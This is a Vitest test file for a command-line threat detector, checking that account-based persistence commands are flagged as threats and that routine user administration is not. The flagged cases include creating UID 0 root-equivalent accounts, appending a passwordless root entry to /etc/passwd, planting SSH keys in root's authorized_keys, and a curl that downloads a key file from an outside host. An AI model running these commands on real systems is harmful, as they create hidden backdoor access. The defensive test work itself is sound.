// Accounts with rights, and keys that are written directly, are found; ordinary administration of accounts is not.
import { expect, test } from 'vitest';
import { judgeLine } from '../../../../detectors/process/threats/verdict/judge.ts';

test.each([
  'useradd -o -u 0 -g 0 -s /bin/bash svc',
  'useradd -ou 0 svc2',
  'adduser --uid 0 --non-unique svc3',
  'useradd -G sudo -p x svc',
  "echo 'svc:x' | chpasswd; useradd -m -G wheel svc; su svc",
  "echo 'svc::0:0::/root:/bin/bash' >> /etc/passwd",
  'echo ssh-ed25519 AAAAC3Nz svc >> /root/.ssh/authorized_keys',
  "mkdir -p ~/.ssh && printf 'ssh-rsa AAAAB3N' | tee -a ~/.ssh/authorized_keys",
  'curl -s http://10.9.8.7/k -o /home/ana/.ssh/authorized_keys',
  'useradd -M -N -r -s /bin/bash svc',
])('%s', (line) => {
  expect(judgeLine(line)).toMatchObject({ threat: true });
});

test('the category is its own', () => {
  expect(judgeLine('useradd -o -u 0 -g 0 -s /bin/bash svc').category).toBe('persistence_mechanisms');
});

test.each([
  'useradd -m -s /bin/bash ana',
  'usermod -aG docker ana',
  'useradd --system --no-create-home --shell /usr/sbin/nologin app',
  'ssh-copy-id ana@web1',
  'chmod 600 ~/.ssh/authorized_keys',
  'passwd ana',
])('ordinary: %s', (line) => {
  expect(judgeLine(line).threat).toBe(false);
});
